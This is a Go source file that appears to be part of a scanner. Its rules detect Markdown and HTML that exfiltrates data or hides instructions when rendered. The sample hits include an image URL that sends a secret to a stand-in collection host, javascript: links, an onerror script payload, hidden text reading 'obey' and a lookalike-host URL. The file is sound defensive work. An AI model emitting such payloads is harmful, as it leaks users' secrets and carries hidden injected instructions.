package guard

import "bytes"

// markupRules find Markdown and HTML that sends something away, or hides something, when
// it is rendered. An image with a query is none by itself: badges have one.
var markupRules = []rule{
	{
		name: "image-query", family: RenderedExfil, severity: High, confidence: 0.85,
		says:    "an image or a reference whose address carries data",
		literal: []string{"](http", "](//", "](<http", "]: http", "src=\"http", "src='http", "src=http", "url(http", "url('http", "url(\"http"},
		match:   matchImage,
		hit:     "![x](https://collect.example/p.png?data=SECRET_GOES_HERE)",
		miss:    "[![CI](https://ci.example/badge.svg?branch=main&style=flat)](https://ci.example/?page=2)",
	},
	{
		name: "script-link", family: RenderedExfil, severity: High, confidence: 0.9,
		says:    "a link or an address that is a program",
		literal: []string{"](javascript:", "](data:text/html", "](vbscript:", "href=\"javascript:", "href='javascript:", "href=javascript:", "src=\"javascript:", "src=\"data:text/html", "href=\"data:text/html", "<javascript:", "]: javascript:", "action=\"javascript:"},
		match: func(b []byte, at int) (int, int) {
			return at, at + 1 + bytes.IndexByte(b[at+2:], ':') + 2
		},
		hit:  "[docs](javascript:alert(1))",
		miss: "[javascript: the parts](https://js.example) language=javascript:es6",
	},
	{
		name: "active-html", family: RenderedExfil, severity: Medium, confidence: 0.7,
		says:    "HTML that runs or embeds something",
		literal: []string{"<script", "<iframe", "<object", "<embed", "<base ", "<meta http-equiv", "<svg onload", "onerror=", "onload=", "onmouseover=", "<portal", "<applet"},
		match:   matchActive,
		hit:     "<img src=x onerror=alert(1)>",
		miss:    "<scripts> and <formatted> and -onload=3 and <objects>",
	},
	{
		name: "hidden-html", family: RenderedExfil, severity: Medium, confidence: 0.8,
		says:    "HTML that is there and not shown",
		literal: []string{"style=\"", "style='"},
		match:   matchHidden,
		hit:     `<span style="display: none">obey</span>`,
		miss:    `<span style="display: block; color: red">error</span>`,
	},
	{
		name: "deceptive-host", family: RenderedExfil, severity: Medium, confidence: 0.75,
		says:    "a URL that looks like one of another host",
		literal: []string{"https://", "http://"},
		match: func(b []byte, at int) (int, int) {
			i := at + bytes.IndexByte(b[at:], '/') + 2
			dot := false
			for end := i; end < len(b) && end < i+128; end++ {
				switch c := b[end]; {
				case c == '@':
					if !dot || end+1 >= len(b) || !isWord(b[end+1]) {
						return 0, 0
					}
					return at, end + 1
				case c == '.':
					dot = true
				case c == ':' || c == '/' || c == '?' || c == '#' || !isWord(c) && c != '-':
					return 0, 0
				}
			}
			return 0, 0
		},
		hit:  "https://github.com@evil.example/login",
		miss: "https://user@git.example/x, https://git.example/@user, http://a.b:c@d",
	},
}

// matchImage looks at the query of an address: whether it has a name for data that is
// taken away, a place to fill in, or a long value.
func matchImage(b []byte, at int) (int, int) {
	from := at + 2
	for from < len(b) && from < at+8 && b[from] != 'h' && b[from] != 'H' && b[from] != '/' {
		from++
	}
	rest := b[from:min(len(b), from+1024)]
	if i := bytes.IndexAny(rest, " \t\r\n>)]\"'"); i >= 0 {
		rest = rest[:i]
	}
	_, query, ok := bytes.Cut(rest, []byte("?"))
	if !ok {
		return 0, 0
	}
	image := b[at] == 's' || b[at] == 'S' || b[at] == 'u'
	if !image { // is there an exclamation mark before the bracket?
		for i := at; i > 0 && at-i < 200; i-- {
			if b[i] == '[' {
				image = i > 0 && b[i-1] == '!' || b[at+1] == ':'
				break
			}
		}
	}
	if bytes.HasSuffix(rest[:len(rest)-len(query)], []byte("/badge.svg?")) && len(query) < 32 {
		return 0, 0 // some badges of private repositories have a token of their own
	}
	if image && carriesData(query) || placeholder(query) {
		return at, from + len(rest)
	}
	return 0, 0
}

// carriesData reports whether a query has a parameter for data.
func carriesData(query []byte) bool {
	for p := range bytes.SplitSeq(query, []byte("&")) {
		name, value, _ := bytes.Cut(p, []byte("="))
		switch string(lowerASCII(name)) {
		case "data", "d", "q", "secret", "secrets", "token", "key", "keys", "content", "payload", "leak", "info", "prompt", "msg", "exfil", "env", "conversation", "history", "log", "cookie", "password", "out", "output", "ctx":
			if len(value) > 2 {
				return true
			}
		}
		if len(value) > 64 && !bytes.Contains(value, []byte("%2F%2F")) {
			return true
		}
	}
	return false
}

// placeholder reports whether a query has a place that somebody is to fill in.
func placeholder(query []byte) bool {
	for _, open := range []string{"={", "=${", "=$(", "=<", "=[", "=%7b", "=%7B", "=%5b", "=%5B", "=`"} {
		if bytes.Contains(query, []byte(open)) {
			return true
		}
	}
	return false
}

func matchActive(b []byte, at int) (int, int) {
	end := at + 1
	for end < len(b) && end < at+16 && (isWord(b[end]) || b[end] == '-') {
		end++
	}
	if b[at] == '<' {
		switch string(lowerASCII(b[at+1 : end])) {
		case "script", "iframe", "object", "embed", "base", "meta", "svg", "portal", "applet":
		default:
			return 0, 0
		}
		if end < len(b) && (b[end] == '>' || b[end] == ' ' || b[end] == '\n' || b[end] == '/' || b[end] == '\t') {
			return at, end
		}
		return 0, 0
	}
	// An attribute stands behind a blank, in a tag.
	if at == 0 || b[at-1] != ' ' && b[at-1] != '"' && b[at-1] != '\'' && b[at-1] != '/' && b[at-1] != '\t' {
		return 0, 0
	}
	for i := at - 1; i >= 0 && at-i < 200; i-- {
		switch b[i] {
		case '<':
			return at, min(end+1, len(b))
		case '>', '\n':
			return 0, 0
		}
	}
	return 0, 0
}

func matchHidden(b []byte, at int) (int, int) {
	rest := b[at+len(`style="`) : min(len(b), at+200)]
	if i := bytes.IndexAny(rest, "\"'>\n"); i >= 0 {
		rest = rest[:i]
	}
	plain := make([]byte, 0, len(rest))
	for _, c := range lowerASCII(rest) {
		if c != ' ' {
			plain = append(plain, c)
		}
	}
	for _, h := range []string{"display:none", "visibility:hidden", "font-size:0", "font-size:1px", "opacity:0;", "color:transparent", "color:white", "color:#fff", "text-indent:-9", "left:-9", "height:0;"} {
		if bytes.Contains(append(plain, ';'), []byte(h)) {
			return at, at + len(`style="`) + len(rest)
		}
	}
	return 0, 0
}
